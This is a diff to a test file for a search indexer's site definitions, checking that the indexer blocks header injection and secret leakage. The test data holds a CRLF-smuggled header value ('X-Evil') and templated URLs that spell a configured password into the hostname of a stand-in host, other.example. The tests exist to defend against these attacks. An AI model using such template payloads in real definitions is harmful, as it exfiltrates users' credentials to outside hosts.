@@ -103,7 +103,7 @@ test('a line break in a setting begins no header', async t => {
 	};
 	const {site, indexer} = await withSite(t, parts, {settings: {key: 'a\r\nX-Evil: 1'}});
 	const error = await t.throwsAsync(indexer.search(movieSearch(), signal), {code: 'definition_unusable'});
-	t.regex(error.message, /Authorization has characters/);
+	t.regex(error.message, /a secret setting does not fit where the definition uses it/);
 	t.deepEqual(site.paths(), []);
 	const cookie = await withSite(
 		t,
@@ -213,6 +213,10 @@ test('the name of a host tells no secret to whoever reads the failure', async t 
 	const error = await t.throwsAsync<UpstreamFailed>(indexer.search(movieSearch(), signal), {code: 'other_host'});
 	t.deepEqual(error.links, []);
 	t.notRegex(error.message, /correct-horse/i);
+	const spelled = '[{path: \'http://{{ re_replace .Config.password "(.)" "$1." }}other.example/\'}]';
+	const bySpelling = await withSite(t, {login: '', paths: spelled}, {settings});
+	const refused = await t.throwsAsync<UpstreamFailed>(bySpelling.indexer.search(movieSearch(), signal), {code: 'other_host'});
+	t.notRegex(refused.message, /c.o.r.r|horse/i);
 	const field = '    details: {text: "http://{{ .Config.password }}.other.example/"}';
 	const found = await withSite(t, {login: '', download: field}, {settings});
 	found.site.answer = (_heard, response) =>
